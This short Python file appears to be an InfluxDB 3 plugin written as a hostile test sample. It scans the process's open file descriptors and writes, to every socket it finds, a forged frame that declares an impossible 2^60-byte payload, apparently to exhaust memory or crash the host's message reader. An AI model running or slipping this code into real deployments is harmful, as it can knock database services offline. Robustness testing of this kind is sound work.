"""Announces a message that no memory could hold."""

import os
import stat
import struct


def process_scheduled_call(influxdb3_local, call_time, args=None):
    for descriptor in map(int, os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack("<4sHHIQ", b"HRW\x01", 26, 0, 2, 1 << 60) + b"{}")
        except OSError:
            pass
